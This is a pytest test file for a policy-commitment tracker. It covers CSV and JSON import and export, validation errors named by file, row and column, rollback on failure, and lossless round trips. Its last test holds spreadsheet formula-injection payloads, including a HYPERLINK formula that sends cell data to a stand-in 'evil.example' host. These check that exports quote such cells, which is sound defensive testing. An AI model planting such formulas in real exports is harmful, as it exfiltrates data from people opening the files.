"""Import and export: the snapshot's CSVs, user files in the same shape (CSV or JSON), bad
input named by file, row and column, all-or-nothing imports, and lossless round trips."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from pathlib import Path

import pytest
from sqlalchemy import func, select, text

from rootcauses.errors import TrackerConflictError, TrackerInputError
from rootcauses.tracker import files, models, service
from rootcauses.tracker.auth import Actor
from rootcauses.tracker.db import Tracker
from rootcauses.tracker.schemas import CommitmentCreate, ProgressCreate
from rootcauses.tracker.status import Status

EDITOR = Actor("importer", "editor")
AS_OF = dt.date(2026, 11, 23)
TABLES = [
    "strategies",
    "pillars",
    "commitments",
    "commitment_pillars",
    "targets",
    "milestones",
    "progress_reports",
    "users",
    "api_tokens",
    "audit_log",
]


def counts(tracker: Tracker) -> dict[str, int]:
    with tracker.engine.connect() as connection:
        return {t: connection.execute(text(f"SELECT count(*) FROM {t}")).scalar() for t in TABLES}


def run_import(tracker: Tracker, paths: list[Path], **options) -> service.ImportReport:
    batch = files.read_batch(paths)
    with tracker.session(write=True) as session:
        return service.import_batch(session, batch, EDITOR, **options)


def export(tracker: Tracker) -> service.Batch:
    with tracker.session() as session:
        return service.export_batch(session)


# --------------------------------------------------------------------------- the seed


def test_the_snapshot_imports_completely(seeded: Tracker) -> None:
    numbers = counts(seeded)
    assert numbers["pillars"] == 23 and numbers["strategies"] == 4
    assert numbers["commitments"] == 56 and numbers["progress_reports"] == 43
    assert numbers["audit_log"] == 23 + 56 + 43  # every row created is audited
    with seeded.session() as session:
        c101 = service.get_commitment(session, "C101")
        assert [(t.value, t.unit) for t in c101.targets] == [
            (5_000_000, "people"),
            (1_000_000, "businesses"),
        ]
        assert c101.deadline == dt.date(2027, 12, 31)
        assert c101.country == "XNT"
        c131 = service.get_commitment(session, "C131")  # "2024 / 2025": one deadline per target
        assert [t.deadline for t in c131.targets] == [dt.date(2024, 12, 31), dt.date(2025, 12, 31)]
        c106 = service.get_commitment(session, "C106")
        assert c106.targets[0].baseline_value == 1000  # read from the baseline text
        c201 = service.get_commitment(session, "C201")  # "+40%" of "7-8 flights/week"
        assert c201.targets[0].relative and c201.targets[0].value == 40
        assert service.get_commitment(session, "C900").aggregate
        undated = session.scalars(
            select(models.ProgressReport).where(models.ProgressReport.commitment_id == "C118")
        ).one()
        assert undated.report_date is None
        pillar_m1 = session.get(models.Pillar, "M1")
        assert pillar_m1.level == "line_of_effort"
        assert pillar_m1.strategy.name == "Collaborative Migration Management Strategy (Jul 2021)"


def test_seed_statuses_on_a_fixed_date(seeded: Tracker) -> None:
    with seeded.session() as session:
        judged = {
            e.commitment.id: e.judgement
            for e in service.evaluate_all(session, seeded.thresholds, AS_OF)
        }
    assert judged["C106"].status is Status.achieved  # 1,200 farms of 1,200
    assert judged["C103"].status is Status.missed  # 1.1M of 3M people by July 2022
    assert judged["C001"].status is Status.no_recent_data  # no report in USD (only requests)
    assert judged["C201"].status is Status.no_metric  # +40% of a baseline given as a range
    assert "needs a numeric baseline" in judged["C201"].reason
    assert judged["C003"].status is Status.no_deadline
    assert judged["C006"].status is Status.no_metric and not judged["C006"].has_deadline
    with seeded.session() as session:
        early = {
            e.commitment.id: e.judgement
            for e in service.evaluate_all(session, seeded.thresholds, dt.date(2022, 7, 1))
        }
    people, businesses = early["C101"].targets
    assert people.status is Status.on_track  # 8% of 5M people where the path asked 16.6%
    assert people.expected_fraction == pytest.approx(399 / 2409)
    assert businesses.status is Status.no_recent_data  # nothing reported in businesses
    assert early["C101"].status is Status.no_recent_data  # the worse of the two
    # 1.1M of 3M people (36.7%) on 2021-12-13, when the path asked 46.5%: within tolerance;
    # nothing more was reported, and the deadline (July 2022) has passed since: missed.
    assert early["C103"].status is Status.on_track
    assert early["C103"].targets[0].expected_fraction == pytest.approx(200 / 430)


def test_importing_the_same_files_again_changes_nothing(seeded: Tracker, snapshot: Path) -> None:
    before = counts(seeded)
    report = run_import(seeded, [snapshot / "strategy"])
    assert report.counts["commitments"] == {
        "inserted": 0,
        "updated": 0,
        "unchanged": 56,
        "skipped": 0,
    }
    assert report.counts["progress"]["unchanged"] == 43
    assert counts(seeded) == before


def test_an_edited_row_is_updated_audited_and_versioned(
    seeded: Tracker, snapshot: Path, tmp_path: Path
) -> None:
    folder = copy_seed(snapshot, tmp_path)
    edit_row(folder / "commitments.csv", "C105", target_value="175000000", amount_usd="175000000")
    report = run_import(seeded, [folder])
    assert report.counts["commitments"]["updated"] == 1
    with seeded.session() as session:
        c105 = service.get_commitment(session, "C105")
        assert c105.version == 2 and c105.targets[0].value == 175e6
        trail = service.history(session, "C105")
    assert [(e.entity, e.action) for e in trail] == [
        ("commitment", "create"),
        ("progress", "create"),
        ("commitment", "update"),
    ]
    trail = [e for e in trail if e.entity == "commitment"]
    assert trail[1].before["amount_usd"] == 150e6 and trail[1].after["amount_usd"] == 175e6
    assert trail[1].before["version"] == 1 and trail[1].after["version"] == 2
    assert trail[1].actor == "importer"


def test_existing_records_can_be_skipped_or_refused(
    seeded: Tracker, snapshot: Path, tmp_path: Path
) -> None:
    folder = copy_seed(snapshot, tmp_path)
    edit_row(folder / "commitments.csv", "C105", amount_usd="1")
    skipped = run_import(seeded, [folder], on_existing="skip")
    assert skipped.counts["commitments"]["skipped"] == 56
    before = counts(seeded)
    with pytest.raises(TrackerConflictError, match="already exist"):
        run_import(seeded, [folder], on_existing="error")
    assert counts(seeded) == before


# --------------------------------------------------------------------------- bad input


def copy_seed(snapshot: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "strategy"
    folder.mkdir()
    for name in ("pillars.csv", "commitments.csv", "progress.csv"):
        shutil.copyfile(snapshot / "strategy" / name, folder / name)
        (folder / name).chmod(0o644)
    return folder


def rows_of(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def write_rows(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def edit_row(path: Path, key: str, column: str = "id", **changes: str) -> int:
    """Change the first row whose ``column`` is ``key``; return its row number (header = 1)."""
    header, rows = rows_of(path)
    for position, row in enumerate(rows):
        if row[column] == key:
            row.update(changes)
            write_rows(path, header, rows)
            return position + 2
    raise AssertionError(f"no row {key}")


def append_row(path: Path, **values: str) -> int:
    header, rows = rows_of(path)
    rows.append({c: values.get(c, "") for c in header})
    write_rows(path, header, rows)
    return len(rows) + 1


NEW_COMMITMENT = {
    "id": "C990",
    "actor": "Example Foundation",
    "actor_type": "ngo",
    "country": "HN",
    "pillar_id": "P1",
    "commitment": "Train 10,000 young people",
    "metric": "people trained",
    "target_value": "10000",
    "unit": "people",
    "announced_date": "2024-01-15",
    "deadline": "2026",
    "source_url": "https://example.org/pledge",
}


@pytest.mark.parametrize(
    ("case", "file", "column", "message"),
    [
        ("no actor", "commitments.csv", "actor", "is empty"),
        ("malformed date", "commitments.csv", "announced_date", "expected a date"),
        ("negative target", "commitments.csv", "target_value", "cannot be negative"),
        ("non-numeric target", "commitments.csv", "target_value", "expected a number"),
        ("unknown pillar", "commitments.csv", "pillar_id", "unknown pillar"),
        ("duplicate id", "commitments.csv", "id", "duplicate commitment id 'C990'"),
        ("unknown commitment", "progress.csv", "commitment_id", "unknown commitment 'C999'"),
        ("evidence not http", "progress.csv", "source_url", "expected an http(s) URL"),
        ("negative amount", "commitments.csv", "amount_usd", "amount ≥ 0"),
        ("unpaired units", "commitments.csv", "target_value", "they pair by position"),
        ("duplicate report", "progress.csv", "reported", "appears twice"),
    ],
)
def test_bad_input_names_file_row_and_column_and_changes_nothing(
    seeded: Tracker,
    snapshot: Path,
    tmp_path: Path,
    case: str,
    file: str,
    column: str,
    message: str,
) -> None:
    folder = copy_seed(snapshot, tmp_path)
    # valid new rows, so a partial import would show in the counts
    append_row(folder / "commitments.csv", **NEW_COMMITMENT)
    append_row(
        folder / "progress.csv",
        commitment_id="C990",
        report_date="2025-01",
        value="2000",
        unit="people",
        source_url="https://example.org/report",
    )
    commitments = folder / "commitments.csv"
    progress = folder / "progress.csv"
    bad = {
        "no actor": lambda: edit_row(commitments, "C003", actor=""),
        "malformed date": lambda: edit_row(commitments, "C004", announced_date="2021-13-07"),
        "negative target": lambda: edit_row(commitments, "C005", target_value="-48000000"),
        "non-numeric target": lambda: edit_row(commitments, "C005", target_value="many"),
        "unknown pillar": lambda: edit_row(commitments, "C006", pillar_id="P2;P9"),
        "duplicate id": lambda: append_row(commitments, **NEW_COMMITMENT),
        "unknown commitment": lambda: append_row(
            progress,
            commitment_id="C999",
            report_date="2024",
            value="1",
            source_url="https://example.org/x",
        ),
        "evidence not http": lambda: edit_row(
            progress, "C990", column="commitment_id", source_url="ftp://example.org/report"
        ),
        "negative amount": lambda: edit_row(commitments, "C005", amount_usd="-1"),
        "unpaired units": lambda: edit_row(commitments, "C101", unit="people"),
        "duplicate report": lambda: append_row(
            progress,
            commitment_id="C990",
            report_date="2025-01",
            value="2100",
            unit="people",
            source_url="https://example.org/report-corrected",
        ),
    }
    row = bad[case]()
    before = counts(seeded)
    with pytest.raises(TrackerInputError) as caught:
        run_import(seeded, [folder])
    error = str(caught.value)
    assert file in error and f"row {row}" in error and repr(column) in error, error
    assert message in error, error
    assert counts(seeded) == before


def test_every_problem_of_a_file_is_listed(snapshot: Path, tmp_path: Path) -> None:
    folder = copy_seed(snapshot, tmp_path)
    edit_row(folder / "commitments.csv", "C003", actor="")
    edit_row(folder / "commitments.csv", "C005", target_value="many")
    edit_row(folder / "progress.csv", "C009", column="commitment_id", source_url="www.example.org")
    with pytest.raises(TrackerInputError) as caught:
        files.read_batch([folder])
    fields = [(where.split(" row ")[0], column) for where, column, _ in caught.value.problems]
    assert fields == [
        ("commitments.csv", "actor"),
        ("commitments.csv", "target_value"),
        ("progress.csv", "source_url"),
    ]


def test_a_failure_while_writing_rolls_everything_back(
    seeded: Tracker, snapshot: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = copy_seed(snapshot, tmp_path)
    append_row(folder / "commitments.csv", **NEW_COMMITMENT)
    edit_row(folder / "commitments.csv", "C105", amount_usd="1")
    before = counts(seeded)

    def broken(*args, **kwargs) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(service, "_import_progress", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        run_import(seeded, [folder])
    assert counts(seeded) == before
    with seeded.session() as session:
        assert service.get_commitment(session, "C105").amount_usd == 150e6


def test_files_that_are_not_tracker_files(tmp_path: Path) -> None:
    other = tmp_path / "other.csv"
    other.write_text("a,b\n1,2\n")
    with pytest.raises(TrackerInputError, match="not a tracker file"):
        files.read_batch([other])
    with pytest.raises(TrackerInputError, match="no such file"):
        files.read_batch([tmp_path / "missing.csv"])
    broken = tmp_path / "broken.json"
    broken.write_text("{not json")
    with pytest.raises(TrackerInputError, match="not valid JSON"):
        files.read_batch([broken])
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(TrackerInputError, match=r"no pillars\.csv"):
        files.read_batch([empty])


# --------------------------------------------------------------------------- user files, round trip


def test_a_user_json_file_in_the_same_shape(tracker: Tracker, tmp_path: Path) -> None:
    document = {
        "pillars": [
            {
                "id": "X1",
                "framework": "Local plan",
                "pillar": "Jobs",
                "source_url": "https://e.org/p",
            }
        ],
        "commitments": [
            {
                "id": "X-1",
                "actor": "City of Example",
                "actor_type": "partner_gov",
                "country": "GT",
                "pillar_id": "X1",
                "commitment": "Cut youth unemployment from 20% to 15% by 2027",
                "metric": "youth unemployment rate",
                "target_value": 15,
                "unit": "percent",
                "baseline": "20",
                "announced_date": "2024-06",
                "deadline": "2027",
                "amount_usd": 2500000,
                "source_url": "https://e.org/plan",
            }
        ],
        "progress": [
            {
                "commitment_id": "X-1",
                "report_date": "2025-12-31",
                "value": 18.5,
                "unit": "percent",
                "source_url": "https://e.org/stats",
            }
        ],
        "milestones": [{"commitment_id": "X-1", "target": 1, "date": "2025-12-31", "value": 18}],
    }
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(document))
    run_import(tracker, [path])
    with tracker.session() as session:
        c = service.get_commitment(session, "X-1")
        assert c.targets[0].baseline_value == 20 and c.targets[0].milestones[0].value == 18
        judged = service.evaluate(c, dt.date(2026, 1, 15), tracker.thresholds).judgement
    # 18.5 where the declared path asked for 18 (a fall from 20 to 15): on track
    assert judged.status is Status.on_track, judged.reason


def rich_content(tracker: Tracker) -> None:
    """Everything the tracker can hold beyond the snapshot's files."""
    with tracker.session(write=True) as session:
        service.create_commitment(
            session,
            CommitmentCreate(
                id="C777",
                actor="Example Co (aggregate)",
                actor_type="private",
                country="SV",
                pillar_ids=["P1", "P5"],
                commitment="Hire 1,000 women; cut turnover from 30% to 20%",
                metric="women hired; turnover",
                targets=[
                    {
                        "unit": "women",
                        "value": 1000,
                        "baseline_value": 0,
                        "deadline": "2026-06-30",
                        "milestones": [{"date": "2025-06-30", "value": 300}],
                    },
                    {"unit": "percent", "value": 20, "baseline_value": 30},
                    {"unit": "flights", "relative": True, "value": -12.5, "baseline_value": 8},
                ],
                baseline="30% turnover (2023)",
                announced_date="2024-03",
                deadline_text="mid-2027",
                amount_usd=1234567.89,
                source_urls=["https://example.org/a", "https://example.org/b?x=1;y=2"],
                source_date="2024",
                notes='quotes "inside", commas, and\na line break',
                aggregate=False,
            ),
            Actor("ann", "editor"),
        )
        service.add_progress(
            session,
            "C777",
            ProgressCreate(
                date="2025-07",
                value=350,
                unit="women",
                evidence_url="https://example.org/r",
                note="first report",
                reported="350 hired",
            ),
            Actor("ann", "editor"),
        )


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_and_import_round_trip_without_loss(
    seeded: Tracker, tracker: Tracker, tmp_path: Path, fmt: str
) -> None:
    rich_content(seeded)
    original = export(seeded)
    first = tmp_path / ("first" if fmt == "csv" else "first.json")
    second = tmp_path / ("second" if fmt == "csv" else "second.json")
    write = files.write_csv if fmt == "csv" else files.write_json
    write(original, first)
    run_import(tracker, [first])  # into an empty database
    copied = export(tracker)
    write(copied, second)
    assert [r.data for r in copied.pillars] == [r.data for r in original.pillars]
    assert [r.data for r in copied.commitments] == [r.data for r in original.commitments]
    assert [r.data for r in copied.progress] == [r.data for r in original.progress]
    if fmt == "csv":
        for name in ("pillars.csv", "commitments.csv", "progress.csv", "milestones.csv"):
            assert (first / name).read_bytes() == (second / name).read_bytes(), name
    else:
        assert first.read_text() == second.read_text()
    with seeded.session() as a, tracker.session() as b:
        status_a = [e.judgement for e in service.evaluate_all(a, seeded.thresholds, AS_OF)]
        status_b = [e.judgement for e in service.evaluate_all(b, tracker.thresholds, AS_OF)]
    assert status_a == status_b
    c777 = next(r.data for r in copied.commitments if r.data.id == "C777")
    assert c777.deadline == dt.date(2027, 12, 31)  # read from "mid-2027", kept as a date
    assert c777.source_urls == ["https://example.org/a", "https://example.org/b?x=1;y=2"]
    report = next(r.data for r in copied.progress if r.data.commitment_id == "C777")
    assert report.recorded_by == "ann"


def test_exports_keep_the_published_columns(
    seeded: Tracker, snapshot: Path, tmp_path: Path
) -> None:
    files.write_csv(export(seeded), tmp_path)
    for name in ("pillars.csv", "commitments.csv", "progress.csv"):
        published, _ = rows_of(snapshot / "strategy" / name)
        exported, _rows = rows_of(tmp_path / name)
        assert exported[: len(published)] == published
    _, commitments = rows_of(tmp_path / "commitments.csv")
    c101 = next(r for r in commitments if r["id"] == "C101")
    assert (c101["target_value"], c101["unit"], c101["country"]) == (
        "5000000;1000000",
        "people;businesses",
        "XNT",
    )


def test_deleted_records_are_not_exported(seeded: Tracker) -> None:
    with seeded.session(write=True) as session:
        version = service.get_commitment(session, "C007").version
        service.delete_commitment(session, "C007", version, Actor("boss", "admin"))
    ids = [r.data.id for r in export(seeded).commitments]
    assert "C007" not in ids and len(ids) == 55
    with seeded.session() as session:
        assert session.scalar(select(func.count()).select_from(models.Commitment)) == 56


# --------------------------------------------------------------------------- formula injection


def formula_content(tracker: Tracker) -> None:
    """A commitment and a progress report whose editors' text a spreadsheet would run."""
    with tracker.session(write=True) as session:
        service.create_commitment(
            session,
            CommitmentCreate(
                id="C888",
                actor='=HYPERLINK("https://evil.example/?"&A1,"click")',
                actor_type="ngo",
                country="GT",
                pillar_ids=["P1"],
                commitment="+1 million jobs",
                metric="-5 percentage points",
                targets=[{"unit": "percent", "relative": True, "value": -20, "baseline_value": 8}],
                baseline="'=already quoted",
                deadline_text="2028",
                notes="@SUM(1+1)",
            ),
            Actor("ann", "editor"),
        )
        service.add_progress(
            session,
            "C888",
            ProgressCreate(
                date="2025-07",
                value=-5,
                unit="percent",
                evidence_url="https://example.org/r",
                note="-2+3",
                reported="=1+2",
            ),
            Actor("ann", "editor"),
        )


def test_csv_exports_quote_formulas_and_import_back_unchanged(
    seeded: Tracker, tracker: Tracker, tmp_path: Path
) -> None:
    formula_content(seeded)
    original = export(seeded)
    files.write_csv(original, tmp_path / "out")
    _, commitments = rows_of(tmp_path / "out" / "commitments.csv")
    c888 = next(r for r in commitments if r["id"] == "C888")
    assert c888["actor"].startswith("'=HYPERLINK(")
    assert (c888["commitment"], c888["metric"], c888["notes"]) == (
        "'+1 million jobs",
        "'-5 percentage points",
        "'@SUM(1+1)",
    )
    assert c888["baseline"] == "''=already quoted"  # so the import gives back "'=…"
    assert c888["target_value"] == "-20%"  # numbers stay numbers
    _, progress = rows_of(tmp_path / "out" / "progress.csv")
    report = next(r for r in progress if r["commitment_id"] == "C888")
    assert (report["value"], report["reported"], report["notes"]) == ("-5", "'=1+2", "'-2+3")
    every_cell = [c for r in commitments + progress for c in r.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "@")]

    run_import(tracker, [tmp_path / "out"])
    copied = export(tracker)
    assert [r.data for r in copied.commitments] == [r.data for r in original.commitments]
    assert [r.data for r in copied.progress] == [r.data for r in original.progress]
    back = next(r.data for r in copied.commitments if r.data.id == "C888")
    assert back.baseline == "'=already quoted" and back.actor.startswith("=HYPERLINK(")
